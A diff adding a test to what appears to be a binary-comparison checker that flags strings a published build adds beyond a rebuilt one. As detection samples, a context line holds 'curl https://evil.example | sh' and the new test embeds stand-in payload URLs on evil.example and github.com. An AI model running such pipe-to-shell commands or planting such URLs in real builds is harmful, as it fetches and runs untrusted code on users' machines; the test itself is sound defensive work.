@@ -264,3 +264,24 @@ def test_a_string_joined_by_a_neighbouring_printable_byte_is_the_same_string():
     assert _joined(b"{http://exslt.org/dates-and-times}date: invalid date or format %sAB", known)
     assert not _joined(b"{http://evil.example/x}date: invalid date or format %s", known)
     assert not _joined(b"curl https://evil.example | sh; {http://exslt.org/dates-and-times}date", known)
+
+
+@needs_gcc
+def test_a_static_librarys_other_version_may_name_more_urls_on_its_own_hosts(tmp_path):
+    """xmlsec 1.3.14 bundles libxmlsec1 1.3, which names more W3C namespace URIs than the image's 1.2: URL
+    strings on hosts the image's library already names are accepted; a host anyone can publish on (github.com)
+    or any other host is still a difference, even when the library names it too."""
+    def strings(*urls: str) -> str:
+        return "".join(f'const char *volatile u{i} = "{u}";\n' for i, u in enumerate(urls))
+    lib_src = LIB + strings("http://www.w3.org/2000/09/xmldsig#sha1", "see https://github.com/lib/lib/issues")
+    lib = shared_lib(tmp_path, "libfoo.so.1", lib_src)
+    (tmp_path / "libfoo.so").symlink_to(lib)
+    reb = read_interface(build(tmp_path, "reb", USES_LIB, f"-L{tmp_path}", "-lfoo"))
+    libraries = {"libfoo.so.1": read_interface(lib.read_bytes())}
+    newer = LIB + strings("http://www.w3.org/2000/09/xmldsig#sha1", "http://www.w3.org/2001/04/xmlenc#DHKeyValue")
+    check = compare(read_interface(build(tmp_path, "pub", USES_LIB + newer)), reb, set(), libraries)
+    assert check.adds == [] and "library-url-hosts" in check.rules, check
+    for evil in ("https://github.com/evil/payload.sh", "http://evil.example/x"):
+        pub = read_interface(build(tmp_path, "evil", USES_LIB + newer + strings(evil).replace("u0", "e0")))
+        adds = compare(pub, reb, set(), libraries).adds
+        assert adds == [f"adds the string {evil!r} (a URL, host or command)"], adds
